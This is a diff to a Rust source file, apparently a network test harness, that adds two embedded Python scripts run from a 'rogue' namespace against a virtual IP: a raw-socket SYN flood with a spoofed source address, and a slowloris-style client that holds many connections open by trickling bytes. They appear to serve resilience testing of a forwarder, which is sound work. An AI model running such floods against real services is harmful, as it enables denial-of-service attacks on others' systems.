@@ -171,3 +171,70 @@ for i in range(count):
     time.sleep(max(0, interval - (time.monotonic() - t)))
 print(json.dumps({"asked": asked, "answered": len(times), "ms": times}))
 "#;
+
+/// Run in the rogue's namespace (`python3 -c`), arguments COUNT VIP PORT
+/// SPOOFED: sends COUNT TCP SYNs to VIP:PORT from SPOOFED (an address nobody
+/// holds, so the SYN-ACKs go nowhere and each SYN is a half-open
+/// connection), from distinct source ports. Prints the SYNs sent (standard error).
+pub const SYN_FLOOD: &str = r#"
+import random, socket, struct, sys
+count = int(sys.argv[1]); vip = socket.inet_aton(sys.argv[2]); port = int(sys.argv[3]); src = socket.inet_aton(sys.argv[4])
+s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+def csum(b):
+    if len(b) % 2: b += b"\0"
+    t = sum(struct.unpack("!%dH" % (len(b) // 2), b))
+    while t > 0xffff: t = (t & 0xffff) + (t >> 16)
+    return ~t & 0xffff
+for i in range(count):
+    sport = 10000 + i
+    tcp = struct.pack("!HHIIBBHHH", sport, port, random.getrandbits(32), 0, 5 << 4, 0x02, 64240, 0, 0)
+    tcp = tcp[:16] + struct.pack("!H", csum(src + vip + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)) + tcp[18:]
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), i & 0xffff, 0, 64, 6, 0, src, vip)
+    s.sendto(ip + tcp, (sys.argv[2], 0))
+print(count, file=sys.stderr)
+"#;
+
+/// Run in the rogue's namespace (`python3 -c`), arguments COUNT VIP PORT
+/// SECONDS: opens COUNT TCP connections to VIP:PORT (non-blocking, all at
+/// once), then for SECONDS trickles one byte every 2 s on each still open,
+/// as a slowloris client does. Prints JSON on standard error: opened (the
+/// handshake completed), alive (still open at the end, the forwarder held
+/// them), refused (reset or closed by the other side).
+pub const SLOW: &str = r#"
+import json, select, socket, sys, time
+count = int(sys.argv[1]); vip = sys.argv[2]; port = int(sys.argv[3]); secs = float(sys.argv[4])
+socks = {}
+for _ in range(count):
+    c = socket.socket(); c.setblocking(False)
+    try: c.connect((vip, port))
+    except BlockingIOError: pass
+    socks[c.fileno()] = c
+p = select.poll()
+for fd in socks: p.register(fd, select.POLLOUT)
+opened = 0; live = {}; deadline = time.monotonic() + 10
+while len(live) + (count - len(socks)) < count and time.monotonic() < deadline and socks:
+    for fd, ev in p.poll(500):
+        c = socks.pop(fd, None)
+        if c is None: continue
+        p.unregister(fd)
+        if c.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
+            opened += 1; live[fd] = c
+refused = 0; t0 = time.monotonic()
+r = select.poll()
+for fd in live: r.register(fd, select.POLLIN)
+while time.monotonic() - t0 < secs:
+    for fd, c in list(live.items()):
+        try: c.send(b"G")
+        except OSError:
+            r.unregister(fd); del live[fd]; refused += 1
+    # A reset or close by the other side shows as readable (EOF or an error).
+    for fd, ev in r.poll(0):
+        c = live.get(fd)
+        if c is None: continue
+        try: gone = c.recv(1) == b""
+        except OSError: gone = True
+        if gone:
+            r.unregister(fd); del live[fd]; refused += 1
+    time.sleep(2)
+print(json.dumps({"opened": opened, "alive": len(live), "refused": refused}), file=sys.stderr)
+"#;
